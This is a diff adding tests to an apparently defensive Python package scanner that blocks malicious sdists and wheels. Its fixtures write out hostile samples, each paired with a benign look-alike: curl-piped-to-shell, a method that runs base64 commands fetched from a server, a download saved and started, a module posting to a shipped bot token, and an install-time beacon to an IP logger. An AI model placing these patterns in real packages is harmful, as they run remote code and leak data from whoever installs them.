@@ -14,7 +14,7 @@ import pytest
 
 from pycustoms.config import Policy
 from pycustoms.scan import scan_target
-from pycustoms.types import Decision
+from pycustoms.types import Decision, Severity
 from tests.builders import build_sdist, build_wheel
 
 STAGE_TWO = "import os\nos.system('curl -s http://198.51.100.7/x | sh')\n"
@@ -725,3 +725,159 @@ def test_a_module_that_talks_to_a_local_server_is_allowed(tmp_path: Path) -> Non
     assert _wheel(tmp_path, {"sample/__init__.py": "", "sample/local.py": LOCAL_SERVER}) is (
         Decision.ALLOW
     )
+
+
+# -- a shipped data file executed at install ----------------------------------------------------
+
+README_THEN_VERSION = (
+    "import os\n"
+    "from setuptools import setup\n"
+    "long_description = open('README.md').read()\n"
+    "root = os.path.dirname(__file__)\n"
+    "version = {}\n"
+    "with open(os.path.join(root, 'sample/version.py')) as fp:\n"
+    "    exec(fp.read(), version)\n"
+    "setup(name='sample', version=version['__version__'], long_description=long_description)\n"
+)
+DATA_THEN_EXEC = (
+    "from setuptools import setup\n"
+    "with open('notes.txt') as handle:\n"
+    "    body = handle.read()\n"
+    "    exec(body)\n"
+    "setup(name='sample', version='1.0')\n"
+)
+
+
+def test_a_version_file_executed_after_the_readme_was_read_is_ordinary(tmp_path: Path) -> None:
+    files = {
+        "README.md": "A sample package.\n\nInstall it with pip.\n",
+        "sample/version.py": "__version__ = '1.0'\n",
+    }
+    assert _sdist(tmp_path, README_THEN_VERSION, files) is Decision.ALLOW
+
+
+def test_a_shipped_text_file_executed_at_install_blocks(tmp_path: Path) -> None:
+    files = {"notes.txt": "import os\nprint(os.getcwd())\n"}
+    assert _sdist(tmp_path, DATA_THEN_EXEC, files) is Decision.BLOCK
+
+
+# -- a library routine that runs what a server answers (a trojaned method) --------------------
+
+REMOTE_COMMAND_METHOD = """\
+import base64
+import os
+import urllib.request
+
+
+class Messages:
+    def send(self, text):
+        answer = urllib.request.urlopen("https://updates.example.net/cmd").read()
+        os.system(base64.b64decode(answer).decode())
+        return text
+"""
+# The look-alike runs a command of its own and only reports the server's answer.
+LOCAL_COMMAND_METHOD = """\
+import os
+import urllib.request
+
+
+class Messages:
+    def send(self, text):
+        status = urllib.request.urlopen("https://updates.example.net/status").read()
+        os.system("echo sent")
+        return status
+"""
+
+
+def test_a_method_that_runs_a_command_from_the_network_blocks(tmp_path: Path) -> None:
+    files = {"sample/__init__.py": "", "sample/messages.py": REMOTE_COMMAND_METHOD}
+    assert _wheel(tmp_path, files) is Decision.BLOCK
+
+
+def test_a_method_that_runs_its_own_command_is_allowed(tmp_path: Path) -> None:
+    files = {"sample/__init__.py": "", "sample/messages.py": LOCAL_COMMAND_METHOD}
+    assert _wheel(tmp_path, files) is Decision.ALLOW
+
+
+# -- a download saved to a file that the same command line starts -----------------------------
+
+SAVED_AND_STARTED = (
+    "import os\n"
+    "os.system('curl -s https://files.example.net/a.py -o %TEMP%/a.pyw && py %TEMP%/a.pyw')\n"
+)
+# The look-alike saves a download and unpacks it: nothing downloaded is started.
+SAVED_AND_UNPACKED = (
+    "import os\nos.system('curl -s https://files.example.net/d.tgz -o d.tgz && tar xzf d.tgz')\n"
+)
+
+
+def test_a_download_started_by_the_same_command_line_blocks_on_import(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": SAVED_AND_STARTED}) is Decision.BLOCK
+
+
+def test_a_download_that_is_only_unpacked_is_not_a_stage_two(tmp_path: Path) -> None:
+    result = scan_target(build_wheel(tmp_path, "sample", "1.0",
+                                     {"sample/__init__.py": SAVED_AND_UNPACKED}), Policy())  # fmt: skip
+    assert result.verdict.decision is not Decision.BLOCK
+    assert all(f.severity < Severity.CRITICAL for f in result.verdict.findings)
+
+
+# -- a shipped webhook or bot credential that the module posts to ------------------------------
+
+# The shape of a bot token (digits, `:AA`, 33 characters), made up here, not a real one.
+_BOT = "7315904268:AA" + "Qz3kT9vLm2Rw8Yp_Hn5Jc-Fd4Bx7Gs1Ue"
+WEBHOOK_SENDER = f"""\
+import requests
+
+
+class Notifier:
+    def __init__(self):
+        self.token = "{_BOT}"
+        self.chat = "123456789"
+
+    def send(self, message):
+        url = f"https://api.telegram.org/bot{{self.token}}/sendMessage"
+        requests.post(url, params={{"chat_id": self.chat, "text": message}})
+"""
+# The look-alike is a bot client that takes the caller's token.
+WEBHOOK_CLIENT = """\
+import requests
+
+
+class Notifier:
+    def __init__(self, token, chat):
+        self.token = token
+        self.chat = chat
+
+    def send(self, message):
+        url = f"https://api.telegram.org/bot{self.token}/sendMessage"
+        requests.post(url, params={"chat_id": self.chat, "text": message})
+"""
+
+
+def test_a_module_posting_to_its_own_shipped_bot_credential_blocks(tmp_path: Path) -> None:
+    files = {"sample/__init__.py": "", "sample/notify.py": WEBHOOK_SENDER}
+    assert _wheel(tmp_path, files) is Decision.BLOCK
+
+
+def test_a_bot_client_that_takes_the_callers_token_is_allowed(tmp_path: Path) -> None:
+    files = {"sample/__init__.py": "", "sample/notify.py": WEBHOOK_CLIENT}
+    assert _wheel(tmp_path, files) is Decision.ALLOW
+
+
+# -- install-time request to an IP logger, request catcher or raw IP ---------------------------
+
+_SETUP = "from setuptools import setup\nsetup(name='sample', version='1.0')\n"
+INSTALL_BEACON = "import urllib.request\nurllib.request.urlopen('https://iplogger.org/aBc12')\n"
+# The look-alike fetches a version file from an ordinary host at install (warns, as before).
+INSTALL_FETCH = (
+    "import urllib.request\nurllib.request.urlopen('https://downloads.example.org/VERSION')\n"
+)
+
+
+def test_an_install_time_request_to_an_ip_logger_blocks(tmp_path: Path) -> None:
+    assert _sdist(tmp_path, _SETUP + INSTALL_BEACON) is Decision.BLOCK
+
+
+def test_an_install_time_request_to_an_ordinary_host_does_not_block(tmp_path: Path) -> None:
+    assert _sdist(tmp_path, _SETUP + INSTALL_FETCH) is not Decision.BLOCK
